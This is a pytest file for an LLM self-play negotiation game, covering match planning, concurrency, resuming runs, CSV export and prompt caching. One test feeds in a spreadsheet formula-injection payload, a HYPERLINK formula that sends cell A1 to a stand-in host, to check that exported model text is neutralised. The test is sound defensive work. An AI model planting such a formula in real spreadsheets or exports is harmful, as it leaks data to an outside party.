"""Model-vs-model runs (backend/dond/selfplay.py): plan, concurrency, resumption, export columns, report."""

from __future__ import annotations

import csv
import json
from collections import Counter
from itertools import pairwise

import pytest

from backend.core.csvio import read_csv_any, unescape_text
from backend.core.llm.fake_server import Reply
from backend.dond import report as dond_report
from backend.dond.export import DOND_EVENTS_COLUMNS, DOND_GAMES_COLUMNS
from backend.dond.protocol import Protocol
from backend.dond.selfplay import main, plan_matches, run_selfplay
from harness.servers import run_async


def read(path):
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        return reader.fieldnames, list(reader)


def test_plan_has_two_games_per_instance_for_one_model_and_four_for_two():
    same = plan_matches(model_a="m", model_b="m", instances=3)
    assert len(same) == 6 and Counter(m.instance_number for m in same) == {0: 2, 1: 2, 2: 2}
    assert {m.cell for m in same} == {1, 2}
    cross = plan_matches(model_a="m", model_b="n", instances=3)
    assert len(cross) == 12 and {m.cell for m in cross} == {1, 2, 3, 4}
    # model m sits on side A in cells 1-2 and on side B in cells 3-4
    assert {m.cell: dict(m.models)["A"] for m in cross if m.instance_number == 0} == {1: "m", 2: "m", 3: "n", 4: "n"}
    with pytest.raises(ValueError, match="positive whole number"):
        plan_matches(model_a="m", model_b="m", instances=0)


def test_scripted_selfplay_writes_the_app_columns_and_the_report_prints_debiased_figures(tmp_path, capsys):
    code = main(["--model-a", "scripted", "--instances", "3", "--out", str(tmp_path), "--quiet", "--protocol", "notes"])
    assert code == 0
    header, games = read(tmp_path / "dond_games.csv")
    assert header == DOND_GAMES_COLUMNS and len(games) == 6
    assert Counter(g["instance_seed"] for g in games) == {"1": 2, "2": 2, "3": 2}
    assert {(g["opponent"], g["model_a"], g["model_b"], g["llm_protocol"]) for g in games} == {
        ("self", "scripted", "scripted", "notes")
    }
    assert all(g["outcome"] in ("success", "lose") and g["note_json_a"] == "1.0" for g in games)
    header, events = read(tmp_path / "dond_events.csv")
    assert header == DOND_EVENTS_COLUMNS
    assert {e["game_id"] for e in events} == {g["game_id"] for g in games}
    assert Counter(e["kind"] for e in events)["note"] > 0
    report = dond_report.report([tmp_path / "dond_games.csv"])
    assert "scripted" in report and "debiased" in report


def test_cross_play_against_the_test_server_plays_four_games_per_instance(tmp_path, llm_server, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test")

    def respond(request):
        spoken = sum(1 for message in request["messages"] if message["role"] == "assistant")
        return Reply(text="Shall we split fairly?" if spoken == 0 else "[Proposal: ]", delay_s=0.05)

    llm_server.responder = respond
    summary = run_async(
        run_selfplay(
            model_a="model-x",
            model_b="model-y",
            instances=2,
            mode="coop",
            language="en",
            out_dir=tmp_path,
            concurrency=8,
            settings_options=dict(base_url=llm_server.base_url, max_retries=0, timeout_s=10),
        )
    )
    assert (summary.planned, summary.played) == (8, 8)
    _, games = read(tmp_path / "dond_games.csv")
    assert len(games) == 8 and Counter(g["instance_seed"] for g in games) == {"1": 4, "2": 4}
    assert {(g["cell"], g["model_a"], g["model_b"]) for g in games if g["instance_seed"] == "1"} == {
        ("1", "model-x", "model-y"),
        ("2", "model-x", "model-y"),
        ("3", "model-y", "model-x"),
        ("4", "model-y", "model-x"),
    }
    assert all(g["outcome"] == "success" for g in games)  # both take nothing: compatible
    assert {request["model"] for request in llm_server.requests} == {"model-x", "model-y"}
    assert llm_server.max_in_flight > 1  # games ran concurrently
    text = dond_report.report([tmp_path / "dond_games.csv"])
    assert "model-x" in text


def test_an_interrupted_run_resumes_without_replaying_finished_games(tmp_path, capsys):
    args = ["--model-a", "scripted", "--instances", "4", "--out", str(tmp_path), "--quiet"]
    assert main(args) == 0
    games_path, events_path = tmp_path / "dond_games.csv", tmp_path / "dond_events.csv"
    header, games = read(games_path)
    _, events = read(events_path)
    first_events = Counter(e["game_id"] for e in events)
    # Interrupt: the last game's events were written, its games row was not.
    lost = games[-1]["game_id"]
    with games_path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=header)
        writer.writeheader()
        writer.writerows(games[:-1])
    capsys.readouterr()
    assert main(args) == 0
    assert "8 games planned, 7 kept from before, 1 played" in capsys.readouterr().out
    _, games_after = read(games_path)
    _, events_after = read(events_path)
    assert sorted(g["game_id"] for g in games_after) == sorted(g["game_id"] for g in games)
    assert Counter(e["game_id"] for e in events_after) == first_events  # no duplicated or orphaned events
    assert games_after[-1]["game_id"] == lost
    # Nothing left to do: a third run plays nothing.
    assert main(args) == 0
    assert "8 games planned, 8 kept from before, 0 played" in capsys.readouterr().out


def test_a_folder_with_a_run_of_other_settings_is_refused(tmp_path, capsys):
    assert main(["--model-a", "scripted", "--instances", "1", "--out", str(tmp_path), "--quiet"]) == 0
    with pytest.raises(SystemExit):
        main(["--model-a", "scripted", "--instances", "1", "--out", str(tmp_path), "--quiet", "--mode", "coop"])
    assert "other settings (mode)" in capsys.readouterr().err
    assert json.loads((tmp_path / "run.json").read_text())["mode"] == "semi"


def test_protocol_is_passed_to_every_game(tmp_path):
    summary = run_async(
        run_selfplay(
            model_a="scripted",
            model_b="scripted",
            instances=1,
            mode="semi",
            language="it",
            out_dir=tmp_path,
            protocol=Protocol("notes", word_limit=30, probe_external=True),
        )
    )
    assert summary.played == 2
    _, events = read(tmp_path / "dond_events.csv")
    purposes = Counter(e["purpose"] for e in events if e["kind"] == "llm_call")
    assert purposes["note"] > 0 and purposes["probe"] > 0 and purposes["message"] > 0
    assert all(e["belief_split"] for e in events if e["kind"] == "probe")


def test_model_text_is_spreadsheet_safe_and_reads_back_exactly_after_a_resume(tmp_path, llm_server, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test")
    openings = {"model-x": '=HYPERLINK("http://x.example/?"&A1)', "model-y": "'quoted start"}

    def respond(request):
        spoken = sum(1 for message in request["messages"] if message["role"] == "assistant")
        return Reply(text=openings[request["model"]] if spoken == 0 else "[Proposal: ]")

    llm_server.responder = respond

    def run():
        options = dict(base_url=llm_server.base_url, max_retries=0, timeout_s=10)
        return run_async(
            run_selfplay(
                model_a="model-x",
                model_b="model-y",
                instances=1,
                mode="coop",
                language="en",
                out_dir=tmp_path,
                concurrency=4,
                settings_options=options,
            )
        )

    run()
    events_path = tmp_path / "dond_events.csv"
    header, events = read(events_path)
    for event in events:
        for column in ("text", "llm_reply"):
            assert not event[column].startswith(("=", "+", "-", "@")), (column, event[column])
    read_back = read_csv_any(events_path).fillna("")
    spoken = set(read_back["text"]) | set(read_back["llm_reply"])
    assert set(openings.values()) <= spoken  # exactly as the models wrote them
    # A resume reads the files and writes them again: still exact, no second quote.
    with (tmp_path / "dond_games.csv").open(encoding="utf-8", newline="") as handle:
        games = list(csv.DictReader(handle))
    with (tmp_path / "dond_games.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(games[0]))
        writer.writeheader()
        writer.writerows(games[:-1])
    assert run().played == 1
    read_again = read_csv_any(events_path).fillna("")
    assert set(openings.values()) <= set(read_again["text"]) | set(read_again["llm_reply"])
    assert not any(str(cell).startswith("''") for cell in read_again["text"])


def test_each_players_prompts_only_grow_at_the_end_so_servers_can_reuse_their_prefix(tmp_path):
    """Prefix caching (vLLM, OpenAI, llama.cpp --cache) pays only when a player's next prompt starts with the whole
    previous one: the rules and values first, then messages appended, never edited or reordered."""
    assert main(["--model-a", "scripted", "--instances", "2", "--out", str(tmp_path), "--quiet"]) == 0
    events = read_csv_any(tmp_path / "dond_events.csv", dtype=str, keep_default_na=False)
    calls = events[(events["kind"] == "llm_call") & (events["purpose"] == "message")]
    checked = 0
    for (_, _), rows in calls.groupby(["game_id", "role"], sort=False):
        prompts = [json.loads(unescape_text(text)) for text in rows["llm_messages"]]
        for before, after in pairwise(prompts):
            *settled, last = before
            assert after[: len(settled)] == settled  # nothing before the last turn changed
            assert after[len(settled)]["role"] == last["role"]
            assert after[len(settled)]["content"].startswith(last["content"])  # the last turn may only grow
            assert len(json.dumps(after)) > len(json.dumps(before))
            checked += 1
    assert checked >= 8
